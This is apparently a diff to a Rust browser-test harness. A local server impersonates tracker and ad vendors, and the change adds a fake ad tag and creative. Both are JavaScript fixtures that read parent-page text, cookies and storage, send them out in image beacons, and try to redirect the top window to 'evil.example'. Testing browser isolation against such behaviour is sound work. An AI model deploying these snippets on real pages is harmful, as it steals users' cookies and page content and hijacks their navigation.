@@ -1,20 +1,19 @@
 //! The tracker theme park: one server on this machine that plays every vendor's host over https, and a Chromium that
 //! takes it for them. What arrives is kept; what the browser only tried is in its network log.
 
-use std::path::{Path, PathBuf};
-use std::process::Command;
+use std::path::PathBuf;
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use rocket::data::{Data, Outcome as DataOutcome};
 use rocket::http::{ContentType, Method, Status};
 use rocket::route::{Handler, Outcome, Route};
-use rocket::{Request, Response, figment::Figment};
+use rocket::{Request, Response};
 
 use super::app::free_port;
 use super::chromium::{Chromium, Driver};
 use super::folder::TestFolder;
-use super::launch::launched;
+use super::launch::{launched, listening};
 
 /// One request that reached a vendor.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -84,7 +83,23 @@ fn played(host: &str, path: &str) -> (ContentType, Vec<u8>) {
     let statcounter = "document.cookie = 'sc_is_visitor_unique=rx1.2; path=/; max-age=63072000'; localStorage.setItem('statcounter_x', '1');\
                        new Image().src = 'https://c.statcounter.com/t.php?sc_project=' + window.sc_project;";
     let histats = "document.cookie = 'HstCfa77=1; path=/; max-age=31536000'; new Image().src = 'https://s4.histats.com/stats/77.php';";
+    // What a tag of advertisements does in the document it is loaded into, and what its creative tries in a frame below.
+    let adsense = "const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
+                   const place = document.querySelector('ins.adsbygoogle');\
+                   const told = { client: place.dataset.adClient, slot: place.dataset.adSlot, npa: window.adsbygoogle.requestNonPersonalizedAds,\
+                     parent: said(() => parent.document.body.innerText), parentcookie: said(() => parent.document.cookie),\
+                     parentstore: said(() => parent.localStorage.length), jar: said(() => document.cookie),\
+                     referrer: said(() => document.referrer), rdp: said(() => place.dataset.restrictDataProcessing ?? '') };\
+                   document.cookie = '__gads=1; path=/; max-age=34190000';\
+                   new Image().src = 'https://googleads.g.doubleclick.net/pagead/ads/' + Object.entries(told).map(([k, v]) => k + '=' + encodeURIComponent(v)).join('/');\
+                   const creative = document.createElement('iframe'); creative.src = 'https://evil.example/creative.html'; place.append(creative);\
+                   try { top.location = 'https://evil.example/taken'; } catch {}";
+    let creative = "<p>here<script>const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
+                    new Image().src = '/beacon/top=' + said(() => top.document.cookie) + '/jar=' + said(() => document.cookie);\
+                    try { top.location = 'https://evil.example/taken'; } catch {}</script>";
     match (host, path) {
+        ("pagead2.googlesyndication.com", "/pagead/js/adsbygoogle.js") => js(adsense),
+        ("evil.example", "/creative.html") => (ContentType::HTML, creative.as_bytes().to_vec()),
         ("www.googletagmanager.com", "/gtag/js") => js(ga),
         ("www.statcounter.com", "/counter/counter.js") => js(statcounter),
         ("s10.histats.com", "/js15_as.js") => js(histats),
@@ -95,43 +110,17 @@ fn played(host: &str, path: &str) -> (ContentType, Vec<u8>) {
     }
 }
 
-/// A key and a certificate, made on the spot and trusted by nobody; the browsers of a test do not ask.
-pub fn certificate(folder: &Path) -> (PathBuf, PathBuf) {
-    let (key, cert) = (folder.join("key.pem"), folder.join("cert.pem"));
-    let made = Command::new("openssl")
-        .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"])
-        .args(["-subj", "/CN=park", "-addext", "subjectAltName=DNS:park", "-days", "2", "-keyout"])
-        .arg(&key)
-        .arg("-out")
-        .arg(&cert)
-        .output()
-        .expect("openssl makes a certificate");
-    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
-    (key, cert)
-}
-
 impl Park {
     /// Opens the park.
     pub async fn open() -> Park {
         let folder = TestFolder::new();
-        let (key, cert) = certificate(folder.path());
         let port = free_port();
         let hits = Arc::new(Mutex::new(vec![]));
-        let figment = Figment::from(rocket::Config {
-            log_level: rocket::config::LogLevel::Off,
-            ..rocket::Config::default()
-        })
-        .merge(("address", "127.0.0.1"))
-        .merge(("port", port))
-        .merge(("cli_colors", false))
-        .merge(("shutdown.ctrlc", false))
-        .merge(("tls.key", key.display().to_string()))
-        .merge(("tls.certs", cert.display().to_string()));
         let routes: Vec<Route> = [Method::Get, Method::Post, Method::Options, Method::Head, Method::Put]
             .into_iter()
             .map(|method| Route::new(method, "/<path..>", Playing(hits.clone())))
             .collect();
-        let rocket = rocket::custom(figment).mount("/", routes);
+        let rocket = rocket::custom(listening(port, Some(folder.path()))).mount("/", routes);
         let shutdown = launched(rocket).await;
         Park { hits, port, folder, shutdown }
     }
